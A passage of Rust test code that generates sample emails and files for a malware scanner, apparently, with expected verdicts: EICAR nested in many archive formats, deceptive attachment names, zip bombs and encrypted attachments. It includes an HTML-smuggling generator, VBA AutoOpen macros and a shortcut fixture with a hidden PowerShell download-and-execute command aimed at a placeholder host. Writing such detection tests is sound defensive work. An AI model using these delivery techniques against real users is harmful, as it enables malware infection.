    if let Some((name, data)) = package {
        cf.create_storage_all("/ObjectPool/_1234567890")
            .expect("storage");
        let native = packager_native(name, data);
        let mut stream = (native.len() as u32).to_le_bytes().to_vec();
        stream.extend_from_slice(&native);
        put_stream(&mut cf, "/ObjectPool/_1234567890/\u{1}Ole10Native", &stream);
    }
    finish_cf(cf)
}

/// `vbaProject.bin` as an OOXML document (docm, xlsm) carries it.
pub fn vba_project(modules: &[(&str, &str)]) -> Vec<u8> {
    let mut cf = new_cf();
    put_stream(
        &mut cf,
        "/PROJECT",
        b"ID=\"{00000000-0000-0000-0000-000000000000}\"\r\nDocument=ThisDocument/&H00000000\r\n",
    );
    put_vba(&mut cf, "", modules);
    finish_cf(cf)
}

/// A password-protected OOXML document as Office stores it: a compound
/// file with EncryptionInfo and EncryptedPackage (here random bytes).
pub fn encrypted_office() -> Vec<u8> {
    let mut cf = new_cf();
    put_stream(&mut cf, "/EncryptionInfo", &[4, 0, 4, 0, 0x40, 0, 0, 0]);
    let noise: Vec<u8> = (0..2048u32)
        .map(|i| (i.wrapping_mul(2654435761) >> 13) as u8)
        .collect();
    put_stream(&mut cf, "/EncryptedPackage", &noise);
    finish_cf(cf)
}

/// An RTF document with one embedded Packager object carrying `data` as
/// the file `name` (the OLE1 layout Word writes, hex-encoded in
/// `\objdata`, 64 digits a line).
pub fn rtf_with_package(name: &str, data: &[u8]) -> Vec<u8> {
    let native = packager_native(name, data);
    let mut ole = Vec::new();
    ole.extend_from_slice(&0x0501u32.to_le_bytes());
    ole.extend_from_slice(&2u32.to_le_bytes());
    for s in ["Package\0", "", ""] {
        ole.extend_from_slice(&(s.len() as u32).to_le_bytes());
        ole.extend_from_slice(s.as_bytes());
    }
    ole.extend_from_slice(&(native.len() as u32).to_le_bytes());
    ole.extend_from_slice(&native);
    let hex = hex::encode(&ole);
    let lines: Vec<&str> = hex
        .as_bytes()
        .chunks(64)
        .map(|c| std::str::from_utf8(c).unwrap_or(""))
        .collect();
    format!(
        "{{\\rtf1\\ansi{{\\fonttbl{{\\f0 Arial;}}}}\\pard Please see the attached file.\\par\r\n\
         {{\\object\\objemb{{\\*\\objclass Package}}\\objw1440\\objh1440{{\\*\\objdata\r\n{}\r\n}}}}\\par}}\r\n",
        lines.join("\r\n")
    )
    .into_bytes()
}

/// An HTML page that smuggles `data`: base64 split over three string
/// literals joined with `+`, decoded with atob into a Blob and downloaded.
pub fn html_smuggling(data: &[u8]) -> Vec<u8> {
    use base64::Engine as _;
    let b = base64::engine::general_purpose::STANDARD.encode(data);
    let third = b.len() / 3 / 4 * 4;
    let (p1, rest) = b.split_at(third.max(4).min(b.len()));
    let (p2, p3) = rest.split_at((third.max(4)).min(rest.len()));
    format!(
        "<!DOCTYPE html><html><head><title>Invoice</title></head><body><p>Loading your document...</p><script>\n\
         var part = \"{p1}\" +\n    \"{p2}\" +\n    \"{p3}\";\n\
         var bin = atob(part); var bytes = new Uint8Array(bin.length);\n\
         for (var i = 0; i < bin.length; i++) {{ bytes[i] = bin.charCodeAt(i); }}\n\
         var blob = new Blob([bytes], {{type: \"application/octet-stream\"}});\n\
         var a = document.createElement(\"a\"); a.href = URL.createObjectURL(blob); a.download = \"invoice.zip\"; a.click();\n\
         </script></body></html>\n"
    )
    .into_bytes()
}

// ---------------------------------------------------------------- messages

pub struct Part<'a> {
    pub content_type: &'a str,
    pub name: Option<&'a str>,
    /// `base64`, `quoted-printable` or `7bit`.
    pub encoding: &'a str,
    pub data: &'a [u8],
}

pub fn attachment<'a>(content_type: &'a str, name: &'a str, data: &'a [u8]) -> Part<'a> {
    Part {
        content_type,
        name: Some(name),
        encoding: "base64",
        data,
    }
}

fn b64(data: &[u8]) -> String {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut s = String::with_capacity(data.len() * 4 / 3 + data.len() / 57 * 2 + 4);
    for line in data.chunks(57) {
        for c in line.chunks(3) {
            let n = (c[0] as u32) << 16
                | (*c.get(1).unwrap_or(&0) as u32) << 8
                | *c.get(2).unwrap_or(&0) as u32;
            s.push(T[(n >> 18) as usize & 63] as char);
            s.push(T[(n >> 12) as usize & 63] as char);
            s.push(if c.len() > 1 {
                T[(n >> 6) as usize & 63] as char
            } else {
                '='
            });
            s.push(if c.len() > 2 {
                T[n as usize & 63] as char
            } else {
                '='
            });
        }
        s.push_str("\r\n");
    }
    s
}

fn qp(data: &[u8]) -> String {
    let mut s = String::new();
    let mut col = 0;
    for &b in data {
        let piece =
            if (b == b'\r' || b == b'\n') || (b'!'..=b'~').contains(&b) && b != b'=' || b == b' ' {
                (b as char).to_string()
            } else {
                format!("={b:02X}")
            };
        if b == b'\n' {
            col = 0;
        } else if col + piece.len() > 72 {
            s.push_str("=\r\n");
            col = 0;
        }
        col += piece.len();
        s.push_str(&piece);
    }
    s
}

/// A multipart/mixed message with a text body and the given parts.
pub fn message(subject: &str, body: &str, parts: &[Part<'_>]) -> Vec<u8> {
    let boundary = "=_portcullis_sample_boundary";
    let mut m = format!(
        "From: Alice Sender <alice@example.org>\r\nTo: bob@example.com\r\nSubject: {subject}\r\nDate: Fri, 27 Nov 2026 09:00:00 +0000\r\nMessage-ID: <{}@example.org>\r\nMIME-Version: 1.0\r\n",
        subject.replace(' ', ".").to_ascii_lowercase()
    );
    if parts.is_empty() {
        m.push_str("Content-Type: text/plain; charset=utf-8\r\n\r\n");
        m.push_str(body);
        m.push_str("\r\n");
        return m.into_bytes();
    }
    m.push_str(&format!("Content-Type: multipart/mixed; boundary=\"{boundary}\"\r\n\r\nThis is a multi-part message in MIME format.\r\n"));
    m.push_str(&format!(
        "--{boundary}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n"
    ));
    for p in parts {
        m.push_str(&format!("--{boundary}\r\nContent-Type: {}", p.content_type));
        if let Some(name) = p.name {
            m.push_str(&format!(
                "; name=\"{name}\"\r\nContent-Disposition: attachment; filename=\"{name}\""
            ));
        }
        m.push_str(&format!(
            "\r\nContent-Transfer-Encoding: {}\r\n\r\n",
            p.encoding
        ));
        match p.encoding {
            "base64" => m.push_str(&b64(p.data)),
            "quoted-printable" => {
                m.push_str(&qp(p.data));
                m.push_str("\r\n");
            }
            _ => {
                m.push_str(&String::from_utf8_lossy(p.data));
                m.push_str("\r\n");
            }
        }
    }
    m.push_str(&format!("--{boundary}--\r\n"));
    m.into_bytes()
}

/// Same message with bare LF line endings, as many MTAs hand it over.
pub fn to_lf(data: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(data.len());
    let mut i = 0;
    while i < data.len() {
        if data[i] == b'\r' && data.get(i + 1) == Some(&b'\n') {
            i += 1;
            continue;
        }
        out.push(data[i]);
        i += 1;
    }
    out
}

/// Zip nested in zip `levels` times around `inner`.
pub fn nested_zip(levels: usize, inner: &[u8]) -> Vec<u8> {
    let mut data = zip(&[("eicar.com", inner)]);
    for i in 0..levels {
        data = zip(&[(&format!("level{i}.zip"), &data)]);
    }
    data
}

/// Every sample with its expected verdict under the bundled rules and the
/// default policy.
pub fn all() -> Vec<Sample> {
    use Action::*;
    use InputKind::{File, Mail};
    let e = eicar();
    let pe = fake_pe();
    let mut v = vec![
        sample("clean_plain.eml", Mail, message("Lunch", "Shall we meet at noon?", &[]), Accept, &[], "plain text mail"),
        sample(
            "clean_pdf_and_png.eml",
            Mail,
            message("Report", "Attached the report.", &[attachment("application/pdf", "report.pdf", &clean_pdf()), attachment("image/png", "logo.png", &png())]),
            Accept,
            &[],
            "ordinary attachments",
        ),
        sample("eicar.eml", Mail, message("Test", "see attachment", &[attachment("application/octet-stream", "eicar.com", &e)]), Reject, &["EICAR_Test_File", "HASH_EICAR"], "EICAR attached"),
        sample("eicar_zip.eml", Mail, message("Zip", "zipped", &[attachment("application/zip", "files.zip", &zip(&[("readme.txt", b"hello"), ("eicar.com", &e)]))]), Reject, &["EICAR_Test_File"], "EICAR in a zip"),
        sample("eicar_deep.eml", Mail, message("Deep", "nested", &[attachment("application/zip", "deep.zip", &nested_zip(5, &e))]), Reject, &["EICAR_Test_File"], "EICAR six zips deep"),
        sample("eicar.com.gz", File, gzip("eicar.com", &e), Reject, &["EICAR_Test_File"], "EICAR in gzip"),
        sample("eicar.com.bz2", File, bzip2(&e), Reject, &["EICAR_Test_File"], "EICAR in bzip2"),
        sample("eicar.com.xz", File, xz(&e), Reject, &["EICAR_Test_File"], "EICAR in xz"),
        sample("eicar.com.zst", File, zstd(&e), Reject, &["EICAR_Test_File"], "EICAR in zstd"),
        sample("eicar.tar", File, tar(&[("docs/readme.txt", b"hi"), ("docs/eicar.com", &e)]), Reject, &["EICAR_Test_File"], "EICAR in tar"),
        sample("eicar.tar.gz", File, gzip("eicar.tar", &tar(&[("eicar.com", &e)])), Reject, &["EICAR_Test_File"], "EICAR in tar.gz"),
        sample(
            "eicar_everything.eml",
            Mail,
            {
                let inner_mail = message("Inner", "forwarded", &[attachment("application/x-xz", "a.tar.xz", &xz(&tar(&[("b.bz2", &bzip2(&zstd(&gzip("c", &zip(&[("eicar.com", &e)])))))])))]);
                message("Outer", "fwd", &[Part { content_type: "message/rfc822", name: None, encoding: "base64", data: &inner_mail }])
            },
            Reject,
            &["EICAR_Test_File"],
            "EICAR in zip in gzip in zstd in bzip2 in tar in xz in a forwarded message",
        ),
        sample(
            "eicar_forwarded_inline.eml",
            Mail,
            {
                let inner_mail = message("Inner", "forwarded", &[attachment("application/octet-stream", "eicar.com", &e)]);
                message("Outer", "fwd", &[Part { content_type: "message/rfc822", name: None, encoding: "7bit", data: &inner_mail }])
            },
            Reject,
            &["EICAR_Test_File"],
            "EICAR in an inline (7bit) forwarded message",
        ),
        sample(
            "eicar_zip_methods.zip",
            File,
            {
                use zip::CompressionMethod as M;
                // EICAR allows trailing whitespace: distinct bytes per entry,
                // so none is skipped as a duplicate.
                let variant = |n: usize| [e.clone(), vec![b' '; n]].concat();
                zip_methods(&[
                    ("stored.com", M::Stored, &variant(1)),
                    ("deflated.com", M::Deflated, &variant(2)),
                    ("bzip2.com", M::Bzip2, &variant(3)),
                    ("zstd.com", M::Zstd, &variant(4)),
                    ("xz.com", M::Xz, &variant(5)),
                ])
            },
            Reject,
            &["EICAR_Test_File"],
            "EICAR in zip entries stored, deflated, bzip2, zstd and xz",
        ),
        sample(
            "rfc2231_name.eml",
            Mail,
            format!(
                "From: a@example.org\r\nTo: b@example.com\r\nSubject: Faktura\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b1\r\nContent-Type: text/plain\r\n\r\nsee attachment\r\n--b1\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename*=UTF-8''faktura%2Epdf%2Eexe\r\nContent-Transfer-Encoding: base64\r\n\r\n{}--b1--\r\n",
                b64(&pe)
            )
            .into_bytes(),
            Reject,
            &["DOUBLE_EXTENSION", "Executable_PE"],
            "RFC 2231 encoded faktura.pdf.exe",
        ),
        sample("eicar_uuencoded.eml", Mail, message("uu", &crate::extract::uuencode_encode("eicar.com", &e), &[]), Reject, &["EICAR_Test_File"], "EICAR uuencoded in a text body"),
        sample("eicar_qp_text.eml", Mail, message("qp", "body", &[Part { content_type: "text/plain; charset=iso-8859-1", name: None, encoding: "quoted-printable", data: &e }]), Reject, &["EICAR_Test_File"], "EICAR in a quoted-printable text part"),
        sample("double_extension.eml", Mail, message("Invoice", "please pay", &[attachment("application/octet-stream", "invoice.pdf.exe", &pe)]), Reject, &["DOUBLE_EXTENSION", "Executable_PE"], "invoice.pdf.exe"),
        sample("bidi_name.eml", Mail, message("Photo", "look", &[attachment("application/octet-stream", "photo\u{202e}gpj.exe", &pe)]), Reject, &["DECEPTIVE_NAME"], "right-to-left override hides .exe"),
        sample("rfc2047_name.eml", Mail, message("Rechnung", "anbei", &[attachment("application/octet-stream", "=?UTF-8?B?UmVjaG51bmcucGRmLmV4ZQ==?=", &pe)]), Reject, &["DOUBLE_EXTENSION"], "RFC 2047 encoded Rechnung.pdf.exe"),
        sample("pe_as_pdf.eml", Mail, message("Scan", "scan attached", &[attachment("application/pdf", "scan.pdf", &pe)]), Reject, &["DISGUISED_EXECUTABLE"], "PE declared as application/pdf"),
        sample("pdf_as_png.eml", Mail, message("Img", "image", &[attachment("image/png", "image.png", &clean_pdf())]), Tag, &["TYPE_MISMATCH"], "a PDF named .png: a lie, not a weapon"),
        sample("elf_in_zip.eml", Mail, message("Tool", "tool", &[attachment("application/zip", "tool.zip", &zip(&[("tool", &fake_elf())]))]), Quarantine, &["Executable_ELF"], "ELF executable in a zip"),
        sample("html_smuggling.eml", Mail, message("Doc", "open it", &[attachment("text/html", "invoice.html", HTML_SMUGGLING.as_bytes())]), Quarantine, &["HTML_Smuggling_Blob"], "HTML builds a file with atob and Blob"),
        sample("js_dropper.eml", Mail, message("Order", "order", &[attachment("application/octet-stream", "order.js", JS_DROPPER.as_bytes())]), Reject, &["Script_Dropper_WSH"], "JScript dropper"),
        sample("lnk.eml", Mail, message("Doc", "doc", &[attachment("application/octet-stream", "document.lnk", &fake_lnk())]), Reject, &["LNK_Runs_Shell"], "shortcut that starts PowerShell"),
        sample("iso.eml", Mail, message("Disk", "disk", &[attachment("application/octet-stream", "files.iso", &fake_iso())]), Quarantine, &["Container_ISO_Image", "UNOPENABLE"], "ISO disk image"),
        sample("docm_autoopen.eml", Mail, message("Doc", "doc", &[attachment("application/vnd.ms-word.document.macroEnabled.12", "report.docm", &zip(&[("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>"), ("word/vbaProject.bin", &vba_project(&[("ThisDocument", "Attribute VB_Name = \"ThisDocument\"\r\nSub Document_Open()\r\n  MsgBox \"harmless\"\r\nEnd Sub\r\n")]))]))]), Quarantine, &["Office_VBA_AutoExec_Source"], "Word document with a Document_Open macro (compressed source, read decompressed)"),
        sample("encrypted_zip.eml", Mail, message("Secret", "password is 1234", &[attachment("application/zip", "secret.zip", &raw_zip(&[RawEntry { local_name: "invoice.exe", central_name: "invoice.exe", data: b"\x01\x02\x03encrypted-bytes", encrypted: true, reuse_local_of: None }]))]), Quarantine, &["ENCRYPTED"], "password-protected zip"),
        sample("corrupt_zip.eml", Mail, message("Broken", "broken", &[attachment("application/zip", "broken.zip", &zip(&[("a.txt", &[b'a'; 4000])])[..60])]), Quarantine, &["UNOPENABLE"], "truncated zip"),
        sample("bomb_depth.zip", File, nested_zip(20, b"deep"), Quarantine, &["LIMIT_DEPTH"], "zip nested 21 deep"),
        sample("bomb_ratio.zip", File, zip(&[("zeros.bin", &vec![0u8; 48 << 20])]), Quarantine, &["LIMIT_RATIO"], "48 MiB of zeros in ~50 KB"),
        sample("bomb_entries.zip", File, {
            let names: Vec<String> = (0..1500).map(|i| format!("f{i}.txt")).collect();
            let data: Vec<Vec<u8>> = (0..1500).map(|i| format!("entry {i}").into_bytes()).collect();
            let entries: Vec<(&str, &[u8])> = names.iter().zip(&data).map(|(n, d)| (n.as_str(), d.as_slice())).collect();
            zip(&entries)
        }, Quarantine, &["LIMIT_OBJECTS"], "1500 entries"),
        sample("bomb_overlap.zip", File, raw_zip(&[
            RawEntry { local_name: "a.txt", central_name: "a.txt", data: b"harmless text", encrypted: false, reuse_local_of: None },
            RawEntry { local_name: "", central_name: "b.exe", data: b"harmless text", encrypted: false, reuse_local_of: Some(0) },
        ]), Quarantine, &["AMBIGUOUS_ARCHIVE"], "two entries share one local header"),
        sample("name_mismatch.zip", File, raw_zip(&[
            RawEntry { local_name: "invoice.exe", central_name: "invoice.txt", data: b"harmless", encrypted: false, reuse_local_of: None },
        ]), Quarantine, &["AMBIGUOUS_ARCHIVE"], "local and central headers name different files"),
        sample("malformed_mime.eml", Mail, b"From: a@example.org\r\nTo: b@example.com\r\nSubject: sloppy\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"xyz\"\r\n\r\n--xyz\r\nContent-Type: text/plain\r\n\r\nhello\r\n--xyz\r\nContent-Type: application/octet-stream; name=\"a.bin\"\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!not base64!!!\r\n".to_vec(), Accept, &["MALFORMED_MIME"], "no closing boundary, broken base64: sloppy, not dangerous"),
        sample("headers_only.eml", Mail, b"Subject: nothing else\r\n".to_vec(), Accept, &[], "a message with no body"),
        sample("not_mail.eml", Mail, b"\x00\x01\x02 binary junk with no headers at all".to_vec(), Accept, &["MALFORMED_MIME"], "bytes that are not a message"),
        sample("eicar.cpio", File, cpio_newc(&[("docs/readme.txt", b"hello"), ("bin/eicar.com", &e)]), Reject, &["EICAR_Test_File"], "EICAR in a cpio (newc) archive"),
        sample("eicar.cpio.gz", File, gzip("eicar.cpio", &cpio_odc(&[("eicar.com", &e)])), Reject, &["EICAR_Test_File"], "EICAR in an old-format cpio in gzip"),
        sample("eicar_binary.cpio", File, cpio_binary(&[("eicar.com", &e)], true), Reject, &["EICAR_Test_File"], "EICAR in a binary cpio"),
        sample("corrupt.cpio", File, cpio_newc(&[("a.txt", b"hello")])[..40].to_vec(), Quarantine, &["UNOPENABLE"], "cpio cut off inside its first header"),
        sample("eicar.a", File, ar_gnu(&[("readme.txt", b"hi"), ("a-very-long-member-name-eicar.com", &e)]), Reject, &["EICAR_Test_File"], "EICAR in a GNU ar archive under a long name"),
        sample("eicar_bsd.a", File, ar_bsd(&[("eicar.com", &e)]), Reject, &["EICAR_Test_File"], "EICAR in a BSD ar archive"),
        sample("corrupt.a", File, b"!<arch>\nthis is not an ar member header, it is only some text that goes on".to_vec(), Quarantine, &["UNOPENABLE"], "ar magic followed by junk"),
        sample("rtf_package.eml", Mail, message("Letter", "see the letter", &[attachment("application/rtf", "letter.rtf", &rtf_with_package("invoice.pdf.exe", &pe))]), Reject, &["DOUBLE_EXTENSION", "Executable_PE"], "RTF embedding invoice.pdf.exe as a Packager object"),
        sample("eicar_rtf_zip.eml", Mail, message("Letter", "see the letter", &[attachment("application/zip", "letter.zip", &zip(&[("letter.rtf", &rtf_with_package("eicar.com", &e))]))]), Reject, &["EICAR_Test_File"], "EICAR in a Packager object in an RTF in a zip"),
        sample("eicar_html_smuggling.eml", Mail, message("Invoice", "open the invoice", &[attachment("text/html", "invoice.html", &html_smuggling(&zip(&[("eicar.com", &e)])))]), Reject, &["EICAR_Test_File"], "EICAR in a zip smuggled in an HTML page as split base64"),
        sample("eicar_data_uri.eml", Mail, message("Page", "open the page", &[attachment("text/html", "page.html", format!("<html><body><a download=\"a.zip\" href=\"data:application/zip;base64,{}\">get</a></body></html>", { use base64::Engine as _; base64::engine::general_purpose::STANDARD.encode(zip(&[("eicar.com", &e)])) }).as_bytes())]), Reject, &["EICAR_Test_File"], "EICAR in a zip in a data: URI link"),
        sample("lnk_powershell.eml", Mail, message("Invoice", "open the invoice", &[attachment("application/octet-stream", "Invoice.pdf.lnk", &lnk("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-w hidden -ep bypass -c iex (iwr http://example.invalid/a)", "%TEMP%"))]), Reject, &["LNK_Runs_Shell", "DOUBLE_EXTENSION"], "a shortcut named like a PDF that runs PowerShell; its target and arguments are extracted as text"),
        sample("doc_vba_autoopen.eml", Mail, message("Report", "see report", &[attachment("application/msword", "report.doc", &ole_document(&[("Module1", "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n  Shell \"calc.exe\"\r\nEnd Sub\r\n")], None))]), Quarantine, &["Office_VBA_AutoExec_Source"], "a .doc whose compressed VBA source has AutoOpen (read decompressed)"),
        sample("eicar_doc_package.eml", Mail, message("Report", "see report", &[attachment("application/msword", "report.doc", &ole_document(&[], Some(("eicar.com", &e))))]), Reject, &["EICAR_Test_File"], "EICAR as a Packager object inside a .doc"),
        sample("encrypted_docx.eml", Mail, message("Salary", "password in the next mail", &[attachment("application/vnd.openxmlformats-officedocument.wordprocessingml.document", "salary.docx", &encrypted_office())]), Quarantine, &["ENCRYPTED"], "password-protected Word document"),
        sample("corrupt.doc", File, ole_document(&[], None)[..700].to_vec(), Quarantine, &["UNOPENABLE"], "compound file cut off after its header"),
        sample("docx_remote_template.eml", Mail, message("Offer", "see the offer", &[attachment("application/vnd.openxmlformats-officedocument.wordprocessingml.document", "offer.docx", &docx_with_template(true))]), Quarantine, &["Office_Remote_Template"], "a .docx that loads its template from a URL"),
        sample("eicar_pdf_attachment.eml", Mail, message("Statement", "your statement", &[attachment("application/pdf", "statement.pdf", &pdf_with(&zip(&[("eicar.com", &e)]), None))]), Reject, &["EICAR_Test_File"], "EICAR in a zip embedded in a PDF"),
        sample("pdf_hidden_js.eml", Mail, message("Statement", "your statement", &[attachment("application/pdf", "statement.pdf", &pdf_with(b"just text", Some("/OpenAction 7 0 R /Launch")))]), Quarantine, &["PDF_Launch_Action", "PDF_JavaScript"], "PDF whose JavaScript and Launch action hide in a compressed object stream"),
        sample("eicar_mbox_attachment.eml", Mail, {
            let first = message("Old news", "nothing here", &[]);
            let second = message("Old invoice", "see attachment", &[attachment("application/octet-stream", "eicar.com", &e)]);
            let mbox = [b"From alice@example.org Mon Jan  1 00:00:00 2024\n".as_slice(), &to_lf(&first), b"\nFrom bob@example.org Tue Jan  2 00:00:00 2024\n", &to_lf(&second)].concat();
            message("Archive", "the archive you asked for", &[attachment("application/mbox", "archive.mbox", &mbox)])
        }, Reject, &["EICAR_Test_File"], "EICAR attached to the second message of an mbox that is itself an attachment"),
        sample("eicar_winmail_dat.eml", Mail, message("Outlook", "see attachments", &[attachment("application/ms-tnef", "winmail.dat", &tnef(&[("NOTES.TXT", b"meeting notes"), ("EICAR.COM", &e)]))]), Reject, &["EICAR_Test_File"], "EICAR inside an Outlook winmail.dat (TNEF)"),
        sample("eicar_7z.eml", Mail, message("Files", "the files", &[attachment("application/x-7z-compressed", "files.7z", &sevenz(&[("readme.txt", b"hello"), ("bin/eicar.com", &e)], None, true))]), Reject, &["EICAR_Test_File"], "EICAR in a solid 7z (LZMA2)"),
        sample("eicar_7z_password.eml", Mail, message("Invoice", "Hello,\r\n\r\nthe invoice is attached. Password: Inv-2024\r\n", &[attachment("application/x-7z-compressed", "invoice.7z", &sevenz(&[("invoice.exe", &e)], Some(("Inv-2024", true)), false))]), Reject, &["EICAR_Test_File", "DECRYPTED"], "EICAR in a 7z with encrypted names, password in the body"),
        sample("encrypted_7z.eml", Mail, message("Invoice", "call me for the code", &[attachment("application/x-7z-compressed", "invoice.7z", &sevenz(&[("invoice.exe", &e)], Some(("not-in-the-mail", false)), false))]), Quarantine, &["ENCRYPTED"], "7z whose password is not in the message: names listed, content locked"),
        sample("corrupt_7z.eml", Mail, message("Files", "the files", &[attachment("application/x-7z-compressed", "files.7z", &sevenz(&[("a.txt", &[b'a'; 4000])], None, false)[..40])]), Quarantine, &["UNOPENABLE"], "7z cut off inside its first block"),
        sample("eicar_zipcrypto_password.eml", Mail, message("Scan 0193", "Dear customer,\r\nthe document is protected, password: 8812\r\n", &[attachment("application/zip", "scan.zip", &zipcrypto_zip(&[("scan.pdf.exe", &e)], "8812"))]), Reject, &["EICAR_Test_File", "DECRYPTED"], "EICAR in a ZipCrypto zip, password in the body"),
        sample("eicar_aes_zip_password.eml", Mail, message("Payslip - password \"Mz7#kq\"", "see attached", &[attachment("application/zip", "payslip.zip", &aes_zip(&[("payslip.doc", &e)], "Mz7#kq"))]), Reject, &["EICAR_Test_File", "DECRYPTED"], "EICAR in an AES-256 zip, password in the subject"),
        sample("eicar_cab.eml", Mail, message("Update", "install the update", &[attachment("application/vnd.ms-cab-compressed", "update.cab", &cabinet(&[("setup.inf", b"[Version]"), ("eicar.com", &e)], cab::CompressionType::MsZip))]), Reject, &["EICAR_Test_File"], "EICAR in a Windows cabinet (MSZIP)"),
        sample("corrupt_cab.eml", Mail, message("Update", "install the update", &[attachment("application/vnd.ms-cab-compressed", "update.cab", &cabinet(&[("a.txt", &[b'a'; 4000])], cab::CompressionType::MsZip)[..50])]), Quarantine, &["UNOPENABLE"], "cabinet cut off in its folder table"),
        sample("eicar_rar5_stored.eml", Mail, message("Files", "the files", &[attachment("application/vnd.rar", "files.rar", &crate::extract::rar_stored(&[("docs/", b""), ("docs/eicar.com", &e)], true))]), Reject, &["EICAR_Test_File"], "EICAR stored (rar -m0) in a RAR 5 archive"),
        sample("eicar_rar4_stored.eml", Mail, message("Files", "the files", &[attachment("application/vnd.rar", "files.rar", &crate::extract::rar_stored(&[("eicar.com", &e)], false))]), Reject, &["EICAR_Test_File"], "EICAR stored in a RAR 4 archive"),
        sample("rar_compressed.eml", Mail, message("Files", "the files", &[attachment("application/vnd.rar", "files.rar", &rar4_compressed("invoice.pdf.exe", b"compressed bytes we cannot read"))]), Quarantine, &["UNOPENABLE", "DOUBLE_EXTENSION"], "RAR with a compressed entry: listed by name (its double extension judged), content unsupported"),
        sample("eicar_onenote.eml", Mail, message("Notes", "open the notebook and double-click", &[attachment("application/onenote", "notes.one", &crate::extract::onenote_file(&[b"<html>click</html>", &e]))]), Reject, &["EICAR_Test_File"], "EICAR embedded in a OneNote page"),
        sample("eicar_binhex.eml", Mail, message("Mac file", "attached", &[attachment("application/mac-binhex40", "eicar.hqx", &crate::extract::binhex_encode("eicar.com", &e, b""))]), Reject, &["EICAR_Test_File"], "EICAR in a BinHex 4.0 attachment"),
        sample("eicar_binhex_inline.eml", Mail, message("Mac file", &format!("Here it is:\r\n\r\n{}\r\nbye", String::from_utf8_lossy(&crate::extract::binhex_encode("tool.bin", b"", &e))), &[]), Reject, &["EICAR_Test_File"], "EICAR in the resource fork of a BinHex block inside the text body"),
        sample("eicar_fat_img.eml", Mail, message("Disk", "the disk image", &[attachment("application/octet-stream", "disk.img", &crate::extract::fat_image(&[("README.TXT", b"read me"), ("Tools/Setup Helper.exe", &e)]))]), Reject, &["EICAR_Test_File"], "EICAR inside a FAT12 floppy image (.img)"),
        sample("encrypted_docx_password.eml", Mail, message("Salary", "The document is protected. Password: Summer-2024", &[attachment("application/vnd.openxmlformats-officedocument.wordprocessingml.document", "salary.docx", &encrypted_docx(&zip(&[("[Content_Types].xml", b"<Types/>"), ("word/eicar.com", &e)]), "Summer-2024"))]), Reject, &["EICAR_Test_File", "DECRYPTED"], "password-protected Word document (agile AES-256), password in the body"),
        sample("eicar_pdf_empty_password.eml", Mail, message("Statement", "your statement", &[attachment("application/pdf", "statement.pdf", &crate::extract::encrypted_pdf(&zip(&[("eicar.com", &e)]), 4, ""))]), Reject, &["EICAR_Test_File"], "EICAR in a zip embedded in an AES-encrypted PDF that opens without a password"),
        sample("eicar_pdf_password.eml", Mail, message("Statement", "Your statement, the password is your postcode: SW1A2AA", &[attachment("application/pdf", "statement.pdf", &crate::extract::encrypted_pdf(&e, 6, "SW1A2AA"))]), Reject, &["EICAR_Test_File", "DECRYPTED"], "EICAR embedded in an AES-256 (R6) PDF, password in the body"),
        sample("encrypted_pdf.eml", Mail, message("Statement", "call for the password", &[attachment("application/pdf", "statement.pdf", &crate::extract::encrypted_pdf(&e, 3, "unguessable-9"))]), Quarantine, &["ENCRYPTED"], "RC4-encrypted PDF whose password is not in the message"),
        sample("eicar_iso.eml", Mail, message("Order", "order details in the disk image", &[attachment("application/octet-stream", "order.iso", &crate::extract::iso_image(&[("Order Details.lnk", &lnk("C:\\Windows\\System32\\cmd.exe", "/c payload\\run.bat", "")), ("payload/eicar.com", &e)]))]), Reject, &["EICAR_Test_File"], "EICAR in an ISO 9660 + Joliet + UDF image beside a shortcut"),
        sample("eicar_udf.eml", Mail, message("Order", "order details in the disk image", &[attachment("application/octet-stream", "order.img", &crate::extract::udf_image(&[("eicar.com", &e)]))]), Reject, &["EICAR_Test_File"], "EICAR in a UDF-only image"),
        sample("corrupt_rar.eml", Mail, message("Files", "the files", &[attachment("application/vnd.rar", "files.rar", &crate::extract::rar_stored(&[("a.txt", &[b'a'; 3000])], true)[..1500])]), Quarantine, &["UNOPENABLE"], "RAR 5 cut off inside its entry"),
        sample("corrupt_iso.eml", Mail, message("Disk", "disk", &[attachment("application/octet-stream", "disk.iso", &crate::extract::iso_image(&[("a.txt", b"hello")])[..0x8800])]), Quarantine, &["UNOPENABLE"], "ISO cut off after its volume descriptors"),
        sample("corrupt_img.eml", Mail, message("Disk", "disk", &[attachment("application/octet-stream", "disk.img", &{ let mut img = crate::extract::fat_image(&[("a.txt", b"hello")]); img[11] = 3; img })]), Tag, &["DANGEROUS_EXTENSION"], "FAT image with an impossible sector size: not a disk image, just bytes (still a .img)"),
        sample("corrupt_onenote.eml", Mail, message("Notes", "notes", &[attachment("application/onenote", "notes.one", &{ let one = crate::extract::onenote_file(&[&[b'x'; 3000]]); one[..one.len() - 1500].to_vec() })]), Quarantine, &["UNOPENABLE"], "OneNote whose embedded file runs past the end"),
        sample("corrupt_binhex.eml", Mail, message("Mac file", "attached", &[attachment("application/mac-binhex40", "a.hqx", &{ let h = crate::extract::binhex_encode("a.txt", &[b'q'; 3000], b""); h[..h.len() / 2].to_vec() })]), Quarantine, &["UNOPENABLE"], "BinHex block cut in half"),
        sample("corrupt_encrypted_docx.eml", Mail, message("Salary", "Password: Summer-2024", &[attachment("application/vnd.openxmlformats-officedocument.wordprocessingml.document", "salary.docx", &{
            let (info, mut package) = crate::extract::office_encrypt(&zip(&[("a.txt", b"hello")]), "Summer-2024");
            // Garble the cipher block holding the zip's end of central directory.
            let n = package.len();
            package[n - 20] ^= 0xff;
            let mut cf = new_cf();
            put_stream(&mut cf, "/EncryptionInfo", &info);
            put_stream(&mut cf, "/EncryptedPackage", &package);
            finish_cf(cf)
        })]), Quarantine, &["DECRYPTED", "UNOPENABLE"], "encrypted Word document whose package is damaged: decrypts to a broken zip"),
